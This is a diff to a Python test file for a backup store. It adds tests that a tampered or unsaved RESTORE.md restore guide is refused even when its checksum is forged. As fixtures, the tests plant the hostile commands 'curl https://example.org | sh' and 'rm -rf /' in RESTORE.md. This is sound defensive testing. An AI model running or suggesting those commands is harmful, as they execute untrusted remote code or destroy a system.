@@ -7,6 +7,8 @@
 from __future__ import annotations
 
 import datetime
+import hashlib
+import json
 import os
 import subprocess
 import tempfile
@@ -38,12 +40,13 @@ def test_a_published_set_is_private_read_only_and_verifiable_by_hand(store: Stor
         "postgresql/authentik.dump": "0o400",
         "static/media.tar.zst": "0o400",
         "manifest.json": "0o400",
+        "RESTORE.md": "0o400",
         "SHA256SUMS": "0o400",
     }
     done = subprocess.run(
         ["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=backup_set.path, capture_output=True, text=True, check=True
     )
-    assert done.stdout.count(": OK") == 3, "both artifacts and the manifest"
+    assert done.stdout.count(": OK") == 4, "both artifacts, the manifest and RESTORE.md"
     assert [one.set_id for one in store.list_sets()[0]] == [backup_set.set_id]
     assert backup_set.verified[0]["level"] == "checksums"
     assert backup_set.size == 305000
@@ -305,3 +308,49 @@ def test_a_store_that_cannot_be_written_is_named(tmp_path: Path) -> None:
     assert str(locked / "store") in said
     assert "Permission denied" in said
     assert "owner and mode" in said
+
+
+def test_a_restore_md_that_is_not_the_sets_own_is_refused(store: Store) -> None:
+    """Whoever follows it runs what is in it as root; a checksum of its own in SHA256SUMS does not make it true."""
+    backup_set = publish(store)
+    folder = Path(backup_set.path)
+    text, sums = folder / "RESTORE.md", folder / "SHA256SUMS"
+    text.chmod(0o600)
+    sums.chmod(0o600)
+    good, good_sums = text.read_bytes(), sums.read_text()
+    text.write_bytes(good.replace(b"set -euo pipefail", b"curl https://example.org | sh"))
+    for own in (
+        good_sums,
+        good_sums.replace(hashlib.sha256(good).hexdigest(), hashlib.sha256(text.read_bytes()).hexdigest()),
+    ):
+        sums.write_text(own)
+        for act in (lambda: store.get(backup_set.set_id), lambda: store.verify(backup_set, NOW, record_it=False)):
+            with pytest.raises(IntegrityError) as found:
+                act()
+            assert "RESTORE.md" in found.value.cause or "SHA256SUMS" in found.value.cause
+            assert found.value.hint
+        assert store.list_sets()[0] == []
+    sums.write_text(good_sums)
+    text.unlink()
+    with pytest.raises(IntegrityError, match=r"no RESTORE.md in .*use another"):
+        store.get(backup_set.set_id)
+    text.write_bytes(good)
+    assert store.get(backup_set.set_id).manifest == backup_set.manifest
+
+
+def test_a_set_that_was_saved_without_restore_md_stays_one_and_none_may_be_put_there(store: Store) -> None:
+    folder = Path(publish(store).path)
+    for path in folder.iterdir():
+        path.chmod(0o700 if path.is_dir() else 0o600)
+    (folder / "RESTORE.md").unlink()
+    manifest = json.loads((folder / "manifest.json").read_text())
+    del manifest["instructions"]
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    digest = hashlib.sha256((folder / "manifest.json").read_bytes()).hexdigest()
+    lines = ["%s  manifest.json\n" % digest]
+    lines += ["%s  %s\n" % (one["sha256"], one["path"]) for one in manifest["artifacts"]]
+    (folder / "SHA256SUMS").write_text("".join(lines))
+    assert store.verify(store.get("latest"), NOW)["ok"]
+    (folder / "RESTORE.md").write_text("rm -rf /\n")
+    with pytest.raises(IntegrityError, match=r"RESTORE.md is not of the backup set.*Do not follow"):
+        store.get(folder.name)
